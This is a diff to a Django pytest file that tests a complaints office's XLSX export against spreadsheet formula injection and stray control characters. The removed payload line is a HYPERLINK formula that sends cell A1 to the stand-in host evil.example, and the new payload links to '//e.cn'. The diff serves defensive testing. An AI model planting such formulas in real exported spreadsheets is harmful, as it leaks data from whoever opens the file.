@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 from django.core.cache import cache
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
 from django.test import Client
 from openpyxl import load_workbook
 
@@ -30,7 +31,8 @@ pytestmark = pytest.mark.django_db
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 # What Excel and other spreadsheet programs read as the start of a formula.
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
-PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"点击")'
+# Short enough for the narrowest exported column (a matter's 30-character phone).
+PAYLOAD = 'HYPERLINK("//e.cn","点此")'
 
 
 @pytest.fixture(autouse=True)
@@ -71,9 +73,11 @@ def test_a_complaint_holding_a_nul_byte_no_longer_breaks_the_office_export(
     district: District,
 ) -> None:
     complaint = file(district)
-    # Stored the way Open311 let it in before control characters were dropped.
+    # Stored the way Open311 let it in before control characters were dropped (PostgreSQL
+    # never held a NUL: there the other control characters broke the export alike).
+    nul = "" if connection.vendor == "postgresql" else "\x00"
     Complaint.objects.filter(pk=complaint.pk).update(
-        text="窗口\x00态度差\x07", place="大厅\x1b3号窗口", subject_name="王\x00科长"
+        text=f"窗口{nul}态度差\x07", place="大厅\x1b3号窗口", subject_name=f"王{nul}科长\x01"
     )
 
     book = workbook(district.client_for(district.olivia).get("/staff/complaints/export.xlsx"))
